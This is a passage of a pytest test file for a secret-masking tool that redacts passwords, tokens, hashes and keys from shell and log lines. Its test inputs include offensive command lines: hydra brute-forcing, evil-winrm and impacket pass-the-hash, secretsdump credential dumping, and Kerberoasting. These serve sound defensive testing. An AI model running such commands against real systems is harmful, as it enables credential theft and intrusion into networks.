            "bash -c 'hydra -l admin -p Summer2026 ssh://10.0.3.14'",
            f"bash -c 'hydra -l admin -p {m('password')} ssh://10.0.3.14'",
        ),
        # pass-the-hash: the NT hash is the credential
        (
            "evil-winrm -i 10.0.3.14 -u admin -H 8846f7eaee8fb117ad06bdd830b7586c",
            f"evil-winrm -i 10.0.3.14 -u admin -H {m('password')}",
        ),
        (
            "impacket-wmiexec -hashes :8846f7eaee8fb117ad06bdd830b7586c corp/admin@10.0.3.14",
            f"impacket-wmiexec -hashes {m('password')} corp/admin@10.0.3.14",
        ),
        # impacket's target: the domain, the user and the host stay
        (
            "impacket-secretsdump corp.local/admin:Summer2026@10.0.3.1",
            f"impacket-secretsdump corp.local/admin:{m('password')}@10.0.3.1",
        ),
        (
            "proxychains python3 GetUserSPNs.py corp.local/svc:'P@ss:w0rd' -dc-ip 10.0.3.1 -request",
            f"proxychains python3 GetUserSPNs.py corp.local/svc:'{m('password')}' -dc-ip 10.0.3.1 -request",
        ),
        (
            "impacket-GetNPUsers corp.local/jdoe:Summer2026 -dc-ip 10.0.3.1",
            f"impacket-GetNPUsers corp.local/jdoe:{m('password')} -dc-ip 10.0.3.1",
        ),
        (
            "python3 secretsdump.py -just-dc corp.local/admin:'P@ss:w0rd@x'@10.0.3.1",
            f"python3 secretsdump.py -just-dc corp.local/admin:'{m('password')}'@10.0.3.1",
        ),
        # a word list is a file, not a password; nor is a Kerberos login without one
        ("nxc smb 10.0.3.0/24 -u users.txt -p passwords.txt", "nxc smb 10.0.3.0/24 -u users.txt -p passwords.txt"),
        (
            "hydra -l admin -P /usr/share/wordlists/rockyou.txt ssh://h",
            "hydra -l admin -P /usr/share/wordlists/rockyou.txt ssh://h",
        ),
        ("impacket-psexec -k -no-pass corp/admin@dc01", "impacket-psexec -k -no-pass corp/admin@dc01"),
        ("python3 setup.py install --user", "python3 setup.py install --user"),
    ],
)
def test_remote_access_and_offensive_tools_passwords_and_hashes_are_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl -u admin:S3cr3t https://api", f"curl -u admin:{m('basic-auth')} https://api"),
        ("curl --user 'admin:S3 cr3t' https://api", f"curl --user 'admin:{m('basic-auth')}' https://api"),
        ("curl -uadmin:S3cr3t https://api", f"curl -uadmin:{m('basic-auth')} https://api"),
        ("curl --user=admin:S3cr3t https://api", f"curl --user=admin:{m('basic-auth')} https://api"),
    ],
)
def test_curl_user_password_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "curl -H 'Authorization: Bearer abc123' https://api",
            f"curl -H 'Authorization: Bearer {m('authorization-header')}' https://api",
        ),
        (
            'curl -H "Authorization: Basic YWRtaW46aHVudGVyMg==" x',
            f'curl -H "Authorization: Basic {m("authorization-header")}" x',
        ),
        ("Authorization: token abc123", f"Authorization: token {m('authorization-header')}"),
        ("curl -H 'X-Api-Key: abc123' https://api", f"curl -H 'X-Api-Key: {m('api-key')}' https://api"),
        ('curl -H "PRIVATE-TOKEN: abc123" https://gitlab', f'curl -H "PRIVATE-TOKEN: {m("token")}" https://gitlab'),
        ("X-Auth-Token: abc123", f"X-Auth-Token: {m('token')}"),
    ],
)
def test_authorization_and_api_key_headers_are_masked(line: str, expected: str) -> None:
    check(line, expected)


# --- piped secrets and SQL ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo S3cr3t | sudo -S systemctl restart app", f"echo {m('sudo-password')} | sudo -S systemctl restart app"),
        ("echo 'S3 cr3t' | sudo -kS id", f"echo '{m('sudo-password')}' | sudo -kS id"),
        ("echo 'bob:S3cr3t' | chpasswd", f"echo 'bob:{m('chpasswd-password')}' | chpasswd"),
        ('echo "bob:S3cr3t" | sudo chpasswd', f'echo "bob:{m("chpasswd-password")}" | sudo chpasswd'),
        ("echo S3cr3t | passwd --stdin bob", f"echo {m('passwd-password')} | passwd --stdin bob"),
        ("printf '%s\\n' S3cr3t | sudo -S id", f"printf '%s\\n' {m('sudo-password')} | sudo -S id"),
        (
            "echo S3cr3t | docker login -u bob --password-stdin",
            f"echo {m('stdin-password')} | docker login -u bob --password-stdin",
        ),
        ("sudo -S id <<< 'S3cr3t'", f"sudo -S id <<< '{m('stdin-password')}'"),
        ("chpasswd <<< 'bob:S3cr3t'", f"chpasswd <<< 'bob:{m('chpasswd-password')}'"),
    ],
)
def test_piped_secret_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "CREATE USER 'app'@'%' IDENTIFIED BY 'S3cr3t';",
            f"CREATE USER 'app'@'%' IDENTIFIED BY '{m('sql-password')}';",
        ),
        (
            "ALTER USER app IDENTIFIED WITH mysql_native_password BY 'S3cr3t';",
            f"ALTER USER app IDENTIFIED WITH mysql_native_password BY '{m('sql-password')}';",
        ),
        ("create user scott identified by tiger;", f"create user scott identified by {m('sql-password')};"),
        ("ALTER ROLE app WITH PASSWORD 'S3cr3t';", f"ALTER ROLE app WITH PASSWORD '{m('sql-password')}';"),
        (
            "CREATE ROLE app LOGIN ENCRYPTED PASSWORD 'it''s';",
            f"CREATE ROLE app LOGIN ENCRYPTED PASSWORD '{m('sql-password')}';",
        ),
        ("SET PASSWORD = 'S3cr3t';", f"SET PASSWORD = '{m('sql-password')}';"),
        (
            "SET PASSWORD FOR 'app'@'%' = PASSWORD('S3cr3t');",
            f"SET PASSWORD FOR 'app'@'%' = PASSWORD('{m('sql-password')}');",
        ),
        (
            "mysql -e \"CREATE USER u IDENTIFIED BY 'S3cr3t'\"",
            f"mysql -e \"CREATE USER u IDENTIFIED BY '{m('sql-password')}'\"",
        ),
    ],
)
def test_sql_password_is_masked(line: str, expected: str) -> None:
    check(line, expected)


def test_netrc_password_is_masked() -> None:
    check(
        "machine api.example.com login bob password S3cr3t",
        f"machine api.example.com login bob password {m('netrc-password')}",
    )


# --- aws configure prompts answered on the next line ----------------------------------------------------


def test_aws_configure_answer_on_the_next_line_is_masked() -> None:
    masker = SecretMasker()
    assert masker.mask("AWS Secret Access Key [None]:") == "AWS Secret Access Key [None]:"
    assert masker.mask(AWS_SECRET) == m("aws-secret-access-key")
    assert masker.mask("Default region name [None]: eu-west-1") == "Default region name [None]: eu-west-1"


def test_aws_configure_empty_answer_keeps_the_next_prompt_readable() -> None:
    lines = ["AWS Secret Access Key [****************ABCD]: ", "Default region name [eu-west-1]: "]
    assert SecretMasker().mask_lines(lines) == lines


# --- what is not a secret -------------------------------------------------------------------------------

NOT_SECRETS = [
    "export PASSWORD=$DB_PASSWORD",
    "export PASSWORD=${DB_PASSWORD}",
    'mysql -u app -p"$MYSQL_PASSWORD"',
    'curl -H "Authorization: Bearer $TOKEN" https://api',
    "psql postgresql://app:${PGPASS}@db/app",
    "password: <password>",
    "DB_PASSWORD=***",
    "api_key: xxxx",
    "password: ''",
    'password: ""',
    "DB_PASSWORD=",
    "token: null",
    "password: ${{ secrets.DB_PASSWORD }}",
    "--password-file /run/secrets/db",
    "docker login --password-stdin -u bob",
    "cat ~/.docker/config.json | jq .auths",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  empty.txt",
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "5730813 Shared test fixtures: fake AWS credentials, loopback HTTP recorder",
    "commit 5730813a1b2c3d4e5f60718293a4b5c6d7e8f901",
    "i-0a1b2c3d4e5f60718",
    "ami-0abcdef1234567890",
    "550e8400-e29b-41d4-a716-446655440000",
    "Nov 26 12:00:15 ip-10-0-1-23 sudo: ssm-user : TTY=pts/0 ; PWD=/home/ssm-user ; USER=root ; COMMAND=/bin/bash",
    "Nov 26 12:00:16 ip-10-0-1-23 sshd[811]: Accepted publickey for ec2-user from 10.0.0.5 port 50000 ssh2: RSA",
    "Nov 26 12:00:17 ip-10-0-1-23 sudo: pam_unix(sudo:auth): authentication failure; logname= uid=1000 tty=/dev/pts/0",
    "[sudo] password for ssm-user:",
    "Password:",
    "journalctl -u amazon-ssm-agent --no-pager | tail -n 3",
    "docker run -u 1000:1000 -p 8080:80 nginx",
    "aws secretsmanager get-secret-value --secret-id prod/db",
    "aws kms encrypt --key-id alias/app --plaintext fileb://x",
    "aws ec2 create-tags --resources i-0a1b2c3d4e5f60718 --tags Key=Name,Value=web",
    "git commit --author 'Jane Roe <jane@example.com>' -m fix",
    "ssh -i ~/.ssh/id_rsa ec2-user@10.0.1.5",
    "PasswordAuthentication no",
    "ssh-keygen -t ed25519 -N '' -f key",
    "https://example.com/path?page=2",
    f"{m('password')} {m('aws-secret-access-key')}",
    "disk-usage-report-2026-11-26-final-version.txt",
    "MinimumPasswordLength: 14",
    '    "PasswordLastUsed": "2024-05-01T12:00:00Z",',
    "--private-key /etc/ssl/private/app.key",
    "PWD=/root",
]


@pytest.mark.parametrize("line", NOT_SECRETS)
def test_placeholders_hashes_ids_and_ordinary_text_are_not_masked(line: str) -> None:
    assert mask_secrets(line) == line


def test_ordinary_line_is_returned_as_the_same_object() -> None:
    line = "drwx------ 3 ssm-user ssm-user  95 Nov 26 11:58 ."
    assert SecretMasker().mask(line) is line


# --- markers, idempotence, counts, robustness ----------------------------------------------------------


def test_existing_markers_are_never_masked_again_or_corrupted() -> None:
    line = f"DB_PASSWORD={m('password')} mysql -p{m('mysql-password')} https://u:{m('url-password')}@h"
    assert mask_secrets(line) == line


def test_forged_marker_does_not_hide_the_secret_next_to_it() -> None:
    assert mask_secrets(f"DB_PASSWORD={m('password')}S3cr3t") == f"DB_PASSWORD={m('password')}{m('password')}"


def test_text_that_only_looks_like_a_marker_is_still_masked() -> None:
    assert mask_secrets("DB_PASSWORD=[MASKED:S3cr3t]") == f"DB_PASSWORD={m('password')}"


def test_only_the_value_is_replaced_so_the_line_stays_readable() -> None:
    line = "[root@ip-10-0-1-23 ~]# mysql -h db.internal -u app -pS3cr3t -e 'select 1' orders"
    assert (
        mask_secrets(line)
        == f"[root@ip-10-0-1-23 ~]# mysql -h db.internal -u app -p{m('mysql-password')} -e 'select 1' orders"
    )


def test_counts_report_kinds_and_numbers_never_values() -> None:
    masker = SecretMasker()
    masker.mask_lines(["DB_PASSWORD=a API_TOKEN=b", "mysql -pS3cr3t", "ls -la", "DB_PASSWORD=c"])
    assert dict(masker.counts) == {"password": 2, "token": 1, "mysql-password": 1}
    assert all(isinstance(key, str) and isinstance(value, int) for key, value in masker.counts.items())


def test_counts_is_read_only() -> None:
    with pytest.raises(TypeError):
        SecretMasker().counts["password"] = 1  # type: ignore[index]


def test_mask_lines_equals_mask_line_by_line() -> None:
    lines = ["ls", "-----BEGIN PRIVATE KEY-----", PEM_BODY[0], "-----END PRIVATE KEY-----", "DB_PASSWORD=x"]
    lines += ["AWS Secret Access Key [None]:", AWS_SECRET, "é DB_PASSWORD=é", "\ud800 TOKEN=\udfff"]
    one_by_one = SecretMasker()
    assert SecretMasker().mask_lines(lines) == [one_by_one.mask(line) for line in lines]


def test_mask_secrets_splits_on_newlines() -> None:
    assert mask_secrets("a\nDB_PASSWORD=x\n") == f"a\nDB_PASSWORD={m('password')}\n"
    assert mask_secrets("") == ""


@pytest.mark.parametrize(
    "line",
    [
        "\x00\x01\x07\x08\x1b]0;title\x07[root@h ~]# DB_PASSWORD=x\x1b[K",
        "\ud800\udfff lone surrogates TOKEN=\ud83d",
        "é密码=秘密 password=пароль",
        "\x80\x9f damaged utf-8 ÃƒÂ© password=x",
        "\r\n\t\v\f",
    ],
)
def test_odd_characters_never_raise_and_secrets_are_still_masked(line: str) -> None:
    masked = mask_secrets(line)
    assert "=x" not in masked
    assert "пароль" not in masked
    assert mask_secrets(masked) == masked


def test_non_ascii_password_is_masked_whole() -> None:
    assert mask_secrets("password=pässwörd密码 next") == f"password={m('password')} next"


def test_secret_at_the_end_of_a_two_mebibyte_line_is_masked() -> None:
    token = fake("ghp_", 36)
    line = "x " * (1 << 20) + f"password=S3cr3t {token}"
    masked = SecretMasker().mask(line)
    assert masked.endswith(f"password={m('password')} {m('github-token')}")


@pytest.mark.parametrize(
    "unit",
    [
        "password=x ",
        'pass="x pass=y ',
        "a=1,password=x,",
        "IDENTIFIED BY 'a''",
        "eyJabcde.eyJabcde.",
        "a://b:c",
        "key ",
    ],
)
def test_dense_hostile_line_is_masked_and_stays_idempotent(unit: str) -> None:
    # 256 KiB keeps the suite fast; growth with size (1 and 2 MiB) is measured by the benchmark, not here.
    line = (unit * ((256 << 10) // len(unit) + 1))[: 256 << 10]
    masked = SecretMasker().mask(line)
    assert SecretMasker().mask(masked) == masked


def test_every_marker_kind_is_declared() -> None:
    assert all(kind == kind.lower() and " " not in kind for kind in KINDS)
    assert {"mysql-password", "private-key", "unparsed-line"} <= KINDS


# Azure names its storage, Cosmos DB and Service Bus keys PrimaryKey; a database's primary key names a column.
_AZURE_KEY = "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=="


@pytest.mark.parametrize(
    "line",
    [
        f"export AZURE_STORAGE_PRIMARY_KEY={_AZURE_KEY}",
        f'COSMOS_PRIMARY_KEY="{_AZURE_KEY}"',
        f"  primaryKey: {_AZURE_KEY}",
        f'{{"primaryKey": "{_AZURE_KEY}", "keyName": "key1"}}',
        "az storage account keys list → PRIMARY_KEY=Xk29fLq0Zb7Yw3Nv8Rt5Ms1Pa6Qe4Hc2Jd9Uf0",
    ],
)
def test_a_key_shaped_value_under_a_primary_key_name_is_masked(line: str) -> None:
    masked = mask_secrets(line)
    assert "[MASKED:key]" in masked
    assert _AZURE_KEY[:12] not in masked
    assert "Xk29fLq0Zb7Y" not in masked


@pytest.mark.parametrize(
    "line",
    ["primary_key: id", 'primaryKey: "userId"', "PRIMARY_KEY=order_id", "primary_key = tenant_id_2024"],
)
def test_a_column_under_a_primary_key_name_stays_readable(line: str) -> None:
    assert mask_secrets(line) == line


def test_gitleaks_false_positive_under_a_primary_key_name_stays_readable() -> None:
    """generic-api-key's own false-positive sample: `=` inside the value, so not base64 key material."""
    line = "primaryKey=7GoqA4sTGPfG=0rj6r5Uv3L1DcRKPy"
    assert mask_secrets(line) == line


# --- files that hold passwords in a shape of their own (session 20) ------------------------------------------


def test_a_pgpass_file_shown_whole_has_each_password_masked() -> None:
    pgpass = ["db.internal:5432:orders:app:Winter2024!x", "# staging", "*:*:*:postgres:S3cr3t\\:pw", ""]
    pgpass += ["h:5432:*:ro:$PGRO_PW"]  # a placeholder stays, as everywhere
    lines = ["[root@db1 ~]# cat ~/.pgpass", *pgpass, "[root@db1 ~]# psql -h h:5432:x:y:z"]
    masked = SecretMasker().mask_lines(lines)
    assert masked == [
        lines[0],
        f"db.internal:5432:orders:app:{m('password')}",
        "# staging",
        f"*:*:*:postgres:{m('password')}",
        *lines[4:],  # the next prompt ends the file: its command is not a pgpass line
    ]
    # The shape alone says nothing: five colon-separated fields are masked only in a pgpass file.
    check("db.internal:5432:orders:app:Winter2024!x", "db.internal:5432:orders:app:Winter2024!x")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (': PSK "Winter2024!x"', f': PSK "{m("password")}"'),
        ('%any 203.0.113.7 : PSK "Winter2024!x"', f'%any 203.0.113.7 : PSK "{m("password")}"'),
        ('carol : EAP "Winter2024!x"', f'carol : EAP "{m("password")}"'),
        ('    psk="Winter2024!x"', f'    psk="{m("password")}"'),
        ("wpa_psk=" + "0a1b2c3d4e5f6071" * 4, f"wpa_psk={m('password')}"),
        # WireGuard: a base64 key that starts with `/` is key material, not a path
        ("PresharedKey = /UwcSPg38hW/D9Y3tcS1FOV0K1wuURMbS0sesJEP5ak=", f"PresharedKey = {m('key')}"),
        ("PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", f"PrivateKey = {m('key')}"),
    ],
)
def test_vpn_and_wifi_pre_shared_keys_are_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    "line",
    [
        "key-mgmt=wpa-psk",
        "psk-flags=1",
        "--private-key /home/ubuntu/keys/deploy.pem",
        "signing_key = /etc/keys/signing-key",
        "ssh_key: ~/.ssh/id_ed25519",
    ],
)
def test_psk_settings_and_key_paths_stay(line: str) -> None:
    check(line, line)


def test_a_redis_reply_masks_the_element_after_a_secret_named_one() -> None:
    reply = ["127.0.0.1:6379> CONFIG GET *", '1) "requirepass"', '2) "Winter2024!x"', '3) "maxmemory"', '4) "0"']
    reply += ['5) "masterauth"', '6) ""']  # no password set: nothing to mask
    masked = SecretMasker().mask_lines(reply)
    assert masked == [*reply[:2], f'2) "{m("password")}"', *reply[3:]]
